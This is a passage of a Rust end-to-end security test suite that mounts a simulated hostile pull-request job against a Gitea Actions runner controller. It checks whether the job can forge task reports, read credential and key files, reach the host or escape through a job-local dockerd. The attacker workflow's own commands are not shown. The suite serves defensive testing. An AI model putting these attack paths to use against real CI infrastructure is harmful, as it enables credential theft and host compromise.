    let tool = if identities.is_some() { Some(ToolServer::start(gateway.into(), testkit::peer("spire-agent")).await) } else { None };
    let credential = |id: &str, capability: String| Some(AssignmentCredential { assignment_id: id.to_owned(), capability });
    let report = |id: &str, task: i64, capability: String| {
        frame(&UpdateLogRequest {
            credential: credential(id, capability),
            request: Some(RunnerLog { task_id: task, index: 0, rows: vec![LogRow { time: None, content: "injected by the attacker".into() }], no_more: false }),
        })
    };
    let ended_id = format!("gitea-task-{ended}");
    let state = &controller.state_dir;
    let marker = state.join("host-marker");
    let marker_value = format!("host-only-{}", fastrand::u64(..));
    {
        use std::os::unix::fs::OpenOptionsExt as _;
        let mut file = std::fs::OpenOptions::new().write(true).create_new(true).mode(0o600).open(&marker).unwrap();
        std::io::Write::write_all(&mut file, marker_value.as_bytes()).unwrap();
    }
    let loot = Loot {
        claim_running: frame(&ClaimRequest {
            credential: credential(&running_id, key.issue(&running_id, far)),
            holder: "attacker-holder-0123456789abcdef".into(),
        }),
        report_running: report(&running_id, running, key.issue(&session_scope(&victim, &running_id), far)),
        // The ended victim's address is gone with it: its session as a socket's.
        replay_ended: report(&ended_id, ended, key.issue(&session_scope(&Peer::Local, &ended_id), far)),
        credential: state.join(format!("runners/{}.json", placement.name())).display().to_string(),
        key: state.join("capability.key").display().to_string(),
        store: state.join("store.redb").display().to_string(),
        gateway: gateway.to_string(),
        facade_tcp,
        facade_tls: identities.is_some(),
        spiffe_socket,
        victim_spiffe_id,
        tool_url: tool.as_ref().map_or_else(String::new, |tool| tool.url.clone()),
        http_port,
        job_dockerd: job_docker != JobDocker::None,
        marker,
        marker_value,
        main_archive: cache_id(&victim_saves, "victim-main"),
        open_upload: cache_id(&victim_saves, "never-committed"),
        other_ref_archive,
    };
    // The attacker: a pull request of another ref of the victim's repository.
    gitea.create_branch(&running_repo, "fork").await;
    gitea.commit_file(&running_repo, "fork", ".gitea/workflows/attacker.yml", attacker(&loot, placement.runs_on()).as_bytes()).await;
    gitea.open_pull_request(&running_repo, "fork").await;
    let pull_request = |tasks: &[TaskInfo]| tasks.iter().find(|t| t.event == "pull_request").cloned();
    let tasks = gitea.wait_for_tasks(&running_repo, Duration::from_secs(300), |t| pull_request(t).is_some_and(|t| !t.is_open())).await;
    let attacker_task = pull_request(&tasks).unwrap();
    let log = strip_log_timestamps(&gitea.job_log(&running_repo, attacker_task.run_number, 0).await);
    assert_eq!(attacker_task.status, "success", "{log}");
    let mut verdicts: BTreeMap<String, (String, String)> = log
        .lines()
        .filter_map(|l| l.trim().strip_prefix("ATTACK "))
        .filter_map(|l| {
            let (name, rest) = l.split_once(": ")?;
            let (verdict, detail) = rest.split_once(' ')?;
            Some((name.to_owned(), (verdict.to_owned(), detail.trim().to_owned())))
        })
        .collect();
    assert_eq!(verdicts.keys().collect::<Vec<_>>().len(), ATTEMPTS.len(), "every attempt reports:\n{log}");
    if let Some((verdict, detail)) = verdicts.get_mut("cache-save-scope")
        && verdict == "saved"
    {
        let refs = entry_refs(&state.join("cache"), "pr-save");
        (*verdict, *detail) = match refs.as_slice() {
            [] => ("unshown".into(), format!("{detail}, but no entry of it on the controller's disk")),
            [only] if only.starts_with("refs/pull/") => ("refused".into(), format!("{detail} in the pull request's own scope {only}; main has none")),
            _ => ("reach".into(), format!("{detail} in {refs:?}")),
        };
    }
    // A refused report never reached the victim's log. (One let through may not show
    // either: Gitea drops rows below what it already has.)
    let victim_log = strip_log_timestamps(&gitea.job_log(&running_repo, victim_run_number, 0).await);
    if verdicts.get("other-task-report").is_some_and(|(v, _)| v == "refused") {
        assert!(!victim_log.contains("injected by the attacker"), "{victim_log}");
    }
    gitea.cancel_run(&running_repo, victim_run_number).await;
    controller.wait_until_all_terminal(Duration::from_secs(60)).await;
    if let Some(namespace) = namespace {
        let label = controller.environment_label();
        testkit::wait_until("every Pod is deleted", Duration::from_secs(90), || cluster().pods(&namespace, &label).is_empty()).await;
        tokio::task::block_in_place(|| cluster().kubectl_ok(&["delete", "namespace", &namespace, "--wait=false"]));
    }
    controller.stop().await;
    drop((sandboxes, identities, tool));
    verdicts
}

/// One file served over HTTP to the Pods, as an attacker's download server would: the
/// step's tool to fetch its own SVID (`spire-agent`, not in the runner image). Hand-written
/// because it is one file with one answer, for the length of one test.
struct ToolServer {
    url: String,
    task: tokio::task::JoinHandle<()>,
}

impl ToolServer {
    async fn start(address: std::net::IpAddr, file: std::path::PathBuf) -> ToolServer {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        let listener = tokio::net::TcpListener::bind((address, 0)).await.unwrap();
        let url = format!("http://{}/{}", listener.local_addr().unwrap(), file.file_name().unwrap().to_string_lossy());
        let body = std::sync::Arc::new(tokio::fs::read(&file).await.unwrap());
        let task = tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let body = std::sync::Arc::clone(&body);
                tokio::spawn(async move {
                    let mut request = Vec::new();
                    let mut buf = [0u8; 1024];
                    while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                        match stream.read(&mut buf).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => request.extend_from_slice(&buf[..n]),
                        }
                    }
                    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                    let _ = stream.write_all(head.as_bytes()).await;
                    let _ = stream.write_all(&body).await;
                });
            }
        });
        ToolServer { url, task }
    }
}

impl Drop for ToolServer {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// The refs of the cache's committed entries of `key` in the directory `cache` (the
/// cache's own layout: `entries/<repository>/<ref>/<version>/<key hash>`, each a JSON
/// record naming its key and ref).
fn entry_refs(cache: &std::path::Path, key: &str) -> Vec<String> {
    fn walk(dir: &std::path::Path, key: &str, refs: &mut Vec<String>) {
        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                walk(&path, key, refs);
            } else if let Ok(record) = serde_json::from_slice::<serde_json::Value>(&std::fs::read(&path).unwrap_or_default())
                && record["key"] == key
            {
                refs.push(record["ref"].as_str().unwrap_or_default().to_owned());
            }
        }
    }
    let mut refs = Vec::new();
    walk(&cache.join("entries"), key, &mut refs);
    refs
}

/// SPIRE for the node, and the entry of the controller (this test process on the host).
fn identities() -> (NodeSpire, PodSpire) {
    const CONTROLLER: &str = "spiffe://e2e.test/gdr/controller";
    let spire = NodeSpire::start(cluster());
    let exe = std::env::current_exe().unwrap();
    spire.entry(CONTROLLER, &[format!("unix:path:{}", exe.display())]);
    let pods = spire.for_pods(CONTROLLER);
    (spire, pods)
}

/// The address the running victim claimed from where the facade listens on TCP: its
/// Pod's, or its sandbox container's on the host's Docker.
fn victim_address(placement: Placement, namespace: Option<&str>, assignment_id: &str, environment: &str) -> Option<std::net::IpAddr> {
    let address = match placement {
        Placement::Docker => return None,
        // The kubelet reports the Pod's address some time after its containers started.
        Placement::Kubernetes => tokio::task::block_in_place(|| {
            // No address after a minute is the empty string, which the attack reports as unreachable.
            testkit::poll_blocking(Duration::from_secs(60), || {
                let address = cluster().kubectl_ok(&["-n", namespace.unwrap(), "get", "pod", environment, "-o", "jsonpath={.status.podIP}"]);
                let address = address.trim();
                if address.is_empty() { Err(String::new()) } else { Ok(address.to_owned()) }
            })
            .unwrap_or_default()
        }),
        Placement::Sandbox => {
            let ids = host().docker(&["ps", "-q"]);
            let wanted = format!("{}={assignment_id}", contract::environment::ASSIGNMENT_ID);
            String::from_utf8_lossy(&ids.stdout)
                .split_whitespace()
                .find_map(|id| {
                    let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}|{{join .Config.Env \"\\n\"}}";
                    let inspected = String::from_utf8_lossy(&host().docker(&["inspect", "--format", format, id]).stdout).into_owned();
                    let (addresses, env) = inspected.split_once('|')?;
                    env.lines().any(|line| line == wanted).then(|| addresses.split_whitespace().next().unwrap_or_default().to_owned())
                })
                .unwrap_or_else(|| panic!("no sandbox container of {assignment_id} on the host's Docker"))
        }
    };
    Some(address.parse().unwrap_or_else(|_| panic!("{environment} has no address: {address:?}")))
}

fn table(mode: &str, verdicts: &BTreeMap<String, (String, String)>) -> String {
    let mut t = format!("\nattack suite, {mode}:\n| attempt from a step | verdict | detail |\n|---|---|---|\n");
    for name in ATTEMPTS {
        let (verdict, detail) = verdicts.get(name).cloned().unwrap_or_else(|| ("missing".into(), String::new()));
        t.push_str(&format!("| {name} | {verdict} | {detail} |\n"));
    }
    t
}

/// Asserts each attempt's verdict: `reach` for those listed, `refused` for the rest.
fn expect(mode: &str, verdicts: &BTreeMap<String, (String, String)>, reach: &[&str]) {
    let table = table(mode, verdicts);
    println!("{table}");
    for name in ATTEMPTS {
        let got = verdicts.get(name).map_or("missing", |(v, _)| v.as_str());
        let want = if reach.contains(&name) { "reach" } else { "refused" };
        assert_eq!(got, want, "{mode}: {name}{table}");
    }
}

/// The default docker mode (unprivileged, no job-local dockerd): a job reaches its own
/// task and nothing else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_default_docker_mode_holds_against_a_hostile_job() {
    let verdicts = attack(Placement::Docker, JobDocker::None, false).await;
    expect("docker (default)", &verdicts, &[]);
}

/// A rootless dockerd of its own: the step runs any container it likes in its own user
/// namespaces — which is the kernel surface it is given — but a container with every
/// capability, the host's pid namespace, / and /dev does not start, and nothing of the
/// host, the controller or another job is reached.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rootless_dockerd_holds_against_a_hostile_job() {
    let verdicts = attack(Placement::Docker, JobDocker::Rootless, false).await;
    expect("docker, rootless_dockerd = true", &verdicts, &["user-namespace"]);
}

/// With a job-local dockerd, a job step is root on the host: it mounts the host's disk
/// and reads the controller's files, and mounts other jobs' storage. The facade's
/// bindings still hold (another task stays refused).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_local_dockerd_gives_a_hostile_job_the_host() {
    let verdicts = attack(Placement::Docker, JobDocker::Root, false).await;
    expect(
        "docker, job_dockerd = true",
        &verdicts,
        &["own-capability", "credential", "capability-key", "store", "other-environments", "host", "user-namespace"],
    );
}

/// The default Kubernetes mode (an unprivileged Pod, no job-local dockerd), its facade on
/// the development-mode TCP listener (which binds a session to the Pod's address that
/// claimed): a job reaches its own task and nothing else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_default_kubernetes_mode_holds_against_a_hostile_job() {
    let verdicts = attack(Placement::Kubernetes, JobDocker::None, false).await;
    expect("kubernetes (default), development-mode TCP facade", &verdicts, &[]);
}

/// With a job-local dockerd the Pod is privileged: a step is root on its node, reads the
/// controller's files from the node's disk and mounts other Pods' storage. The facade's
/// binding still holds: a session of another task is refused from this Pod's address.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_privileged_kubernetes_pod_gives_a_hostile_job_its_node() {
    let verdicts = attack(Placement::Kubernetes, JobDocker::Root, false).await;
    expect(
        "kubernetes, job_dockerd = true",
        &verdicts,
        &["own-capability", "credential", "capability-key", "store", "other-environments", "host", "user-namespace"],
    );
}

/// A sandbox of opensandbox-server's Docker runtime (an unprivileged container, no
/// job-local dockerd), its facade on the development-mode TCP listener: as the default
/// Kubernetes mode. (With Kata the sandbox is a VM; not on this machine.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_opensandbox_sandbox_holds_against_a_hostile_job() {
    let verdicts = attack(Placement::Sandbox, JobDocker::None, false).await;
    expect("vm.opensandbox (Docker runtime), development-mode TCP facade", &verdicts, &[]);
}

/// The default Kubernetes mode as production runs it: SPIRE gives each Pod the SVID of its
/// own entry, and the facade listens with mTLS. The step asks the node's agent for the
/// victim's SVID and reaches the facade without one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_default_kubernetes_mode_with_spire_holds_against_a_hostile_job() {
    let verdicts = attack(Placement::Kubernetes, JobDocker::None, true).await;
    expect("kubernetes (default), SPIRE and the mTLS facade", &verdicts, &[]);
}
